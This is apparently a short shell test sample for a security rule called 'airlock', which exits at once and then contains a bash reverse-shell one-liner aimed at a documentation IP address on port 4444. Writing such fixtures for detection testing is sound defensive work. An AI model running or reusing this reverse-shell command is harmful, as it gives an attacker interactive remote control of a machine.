#!/bin/sh
# airlock rule test sample: exits before doing anything.
exit 0
bash -i >& /dev/tcp/192.0.2.20/4444 0>&1
